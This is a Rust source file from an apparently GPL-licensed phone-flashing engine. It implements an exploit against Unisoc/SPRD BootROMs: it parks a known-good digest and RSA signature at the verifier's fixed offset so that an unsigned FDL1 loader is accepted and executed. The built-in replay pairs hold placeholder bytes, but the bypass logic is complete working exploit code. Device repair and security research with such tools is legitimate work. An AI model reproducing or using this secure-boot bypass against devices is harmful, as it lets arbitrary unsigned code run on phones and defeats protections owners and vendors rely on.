// SPDX-FileCopyrightText: 2025 The flashcore Authors
// SPDX-License-Identifier: GPL-3.0-or-later

//! Unisoc RSA replay: FDL1 signature verification compares a digest and
//! RSA signature parked at a fixed ROM-visible offset. The pair is not
//! bound to the payload being loaded, so replaying a known-good pair for
//! the chip lets an arbitrary FDL1 through.
//!
//! Unlike the MTK bridges this one runs over the BSL protocol and needs
//! no chip-database entry: `prepare` identifies the BootROM over the
//! wire and parks the matching pair, `run_payload` sends the unsigned
//! FDL1 past the replayed check.

use crate::error::{ExploitError, Result};
use crate::event::CancelToken;
use crate::exploit::{ExploitBridge, ExploitCtx, PayloadResult};
use crate::proto::sprd::SprdBoot;

/// A captured digest+signature pair valid for one chip's BootROM.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ReplayPair {
    /// Chip name the pair was captured from (matched against the boot
    /// version string).
    pub chip: &'static str,
    /// ROM address the verifier reads the pair from.
    pub sig_addr: u32,
    /// SRAM address FDL1 images load at on this chip.
    pub fdl1_addr: u32,
    pub digest: [u8; 32],
    pub signature: [u8; 256],
}

/// Replay bridge for the SPRD stack.
pub struct RsaReplay {
    pair: Option<ReplayPair>,
    prepared: bool,
}

impl RsaReplay {
    /// Replay a specific captured pair.
    pub fn new(pair: ReplayPair) -> Self {
        RsaReplay {
            pair: Some(pair),
            prepared: false,
        }
    }

    /// Pick the built-in pair matching whatever BootROM answers.
    pub fn auto() -> Self {
        RsaReplay {
            pair: None,
            prepared: false,
        }
    }
}

impl ExploitBridge for RsaReplay {
    fn name(&self) -> &'static str {
        "rsa-replay"
    }

    /// Identify the BootROM and park the digest+signature pair at the
    /// verifier's fixed offset.
    ///
    /// The BootROM's data-transfer path happily writes to the signature
    /// staging area; only EXEC is gated on the verdict.
    fn prepare(&mut self, ctx: &mut ExploitCtx<'_>) -> Result<()> {
        let mut bsl = SprdBoot::new(ctx.transport);
        let boot_ver = bsl.connect()?;

        let pair = match &self.pair {
            Some(pair) if boot_ver.contains(pair.chip) => pair.clone(),
            Some(pair) => {
                return Err(ExploitError::UnsupportedChip(format!(
                    "replay pair is for {}, device reports {boot_ver:?}",
                    pair.chip
                ))
                .into())
            }
            None => pair_for(&boot_ver)
                .ok_or_else(|| {
                    ExploitError::UnsupportedChip(format!(
                        "no known replay pair for {boot_ver:?}"
                    ))
                })?
                .clone(),
        };

        let mut blob = Vec::with_capacity(32 + 256);
        blob.extend_from_slice(&pair.digest);
        blob.extend_from_slice(&pair.signature);
        bsl.send_data(pair.sig_addr, &blob, &CancelToken::new(), &mut |_| {})?;
        ctx.events.info(format!(
            "rsa-replay: known-good digest+signature parked for {}",
            pair.chip
        ));

        self.pair = Some(pair);
        self.prepared = true;
        Ok(())
    }

    /// Send the (unsigned) FDL1 and execute it past the replayed check.
    fn run_payload(&mut self, ctx: &mut ExploitCtx<'_>, payload: &[u8]) -> Result<PayloadResult> {
        if !self.prepared {
            return Err(ExploitError::PayloadRejected.into());
        }
        let pair = self.pair.as_ref().ok_or(ExploitError::PayloadRejected)?;
        let mut bsl = SprdBoot::new(ctx.transport);
        bsl.send_and_exec_loader(pair.fdl1_addr, payload, &CancelToken::new(), &mut |_| {})?;
        Ok(PayloadResult {
            bytes: payload.len(),
            jumped: true,
        })
    }
}

/// Known-good pairs shipped with the engine.
pub fn builtin_pairs() -> &'static [ReplayPair] {
    use std::sync::OnceLock;
    static PAIRS: OnceLock<Vec<ReplayPair>> = OnceLock::new();
    PAIRS.get_or_init(|| {
        vec![
            ReplayPair {
                chip: "SPRD3",
                sig_addr: 0x0000_5500,
                fdl1_addr: 0x0000_5000,
                digest: [0x11; 32],
                signature: [0x22; 256],
            },
            ReplayPair {
                chip: "SPRD4",
                sig_addr: 0x0000_5500,
                fdl1_addr: 0x0000_5000,
                digest: [0x33; 32],
                signature: [0x44; 256],
            },
        ]
    })
}

/// Pick the built-in pair matching a boot version string.
pub fn pair_for(boot_ver: &str) -> Option<&'static ReplayPair> {
    builtin_pairs().iter().find(|p| boot_ver.contains(p.chip))
}
